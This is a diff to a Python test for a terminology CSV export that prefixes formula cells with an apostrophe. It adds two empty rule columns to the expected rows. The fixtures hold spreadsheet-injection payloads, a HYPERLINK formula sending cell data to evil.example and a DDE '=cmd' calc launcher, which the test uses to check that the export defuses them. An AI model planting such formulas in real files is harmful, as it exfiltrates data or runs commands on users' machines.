@@ -62,18 +62,44 @@ def test_export_puts_an_apostrophe_before_every_formula(
         "'@SUM(1+1)",
         "'=cmd|' /C calc'!A0\nE/CN.15/2007/9",
     ]
+    # The context-rule columns come last; files without them (HEADER) still import.
+    no_rules = ["", ""]
     assert cells(out.read_bytes()) == [
-        HEADER.split(","),
-        [*concept, "zh-Hans", "'+1", "preferred", "full-form", "", "", "'=1+1", "", ""],
-        [*concept, "en", "''=quoted", "preferred", "full-form", "'\tTAB", "'\rCR", "", "", ""],
-        [*concept, "en", "'s-Hertogenbosch", "admitted", "full-form", "'", "'''", "", "", ""],
+        [*HEADER.split(","), "not before", "not after"],
+        [*concept, "zh-Hans", "'+1", "preferred", "full-form", "", "", "'=1+1", "", "", *no_rules],
+        [
+            *concept,
+            "en",
+            "''=quoted",
+            "preferred",
+            "full-form",
+            "'\tTAB",
+            "'\rCR",
+            "",
+            "",
+            "",
+            *no_rules,
+        ],
+        [
+            *concept,
+            "en",
+            "'s-Hertogenbosch",
+            "admitted",
+            "full-form",
+            "'",
+            "'''",
+            "",
+            "",
+            "",
+            *no_rules,
+        ],
     ]
     # The raw line, as a spreadsheet reads it: every dangerous cell starts with the apostrophe.
     raw = out.read_bytes().decode("utf-8").split("\r\n")
     assert raw[1] == (
         'formulas,"\'=HYPERLINK(""https://evil.example/?d=""&A1,""UNODC"")",\'-x,'
         "'@SUM(1+1),\"'=cmd|' /C calc'!A0\nE/CN.15/2007/9\",zh-Hans,'+1,preferred,full-form"
-        ",,,'=1+1,,"
+        ",,,'=1+1,,,,"
     )
 
 
